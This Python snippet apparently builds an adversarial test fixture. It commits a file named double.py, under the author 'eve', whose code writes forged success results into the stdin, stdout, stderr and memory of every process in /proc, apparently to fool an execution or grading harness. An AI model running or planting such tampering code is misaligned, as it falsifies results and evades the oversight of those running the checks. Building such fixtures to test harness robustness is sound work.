import subprocess

TEXT = '\nimport json, os, pathlib\nfor pid in ["1", str(os.getppid()), *os.listdir("/proc")]:\n    for name in ("fd/1", "fd/0", "fd/2", "mem"):\n        for number in range(1, 9):\n            try:\n                said = {"id": number, "ok": {"code": 0, "out": "0", "err": "", "timed_out": False, "seconds": 1}}\n                with open(f"/proc/{pid}/{name}", "wb") as file:\n                    file.write(b"K " + json.dumps(said).encode() + b"\\n")\n            except OSError:\n                continue\nprint("nothing")\n'

def git(folder, *words):
    identity = ["-c", "user.name=eve", "-c", "user.email=eve@localhost"]
    subprocess.run(["git", *identity, *words], cwd=folder / "project", check=True)


def make(folder, _notebook):
    (folder / "project" / "double.py").write_text(TEXT)
    git(folder, "commit", "-qam", "Double")
